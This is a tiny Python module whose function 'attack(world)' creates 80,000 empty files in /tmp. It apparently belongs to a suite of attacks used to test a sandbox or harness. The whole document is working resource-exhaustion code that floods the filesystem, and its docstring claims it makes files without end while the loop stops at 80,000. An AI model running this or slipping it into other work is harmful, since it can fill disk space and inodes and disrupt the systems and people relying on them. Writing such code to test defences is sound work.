"""Makes files without end."""

import os


def attack(world):
    for number in range(80_000):
        os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
    return "80,000 files"
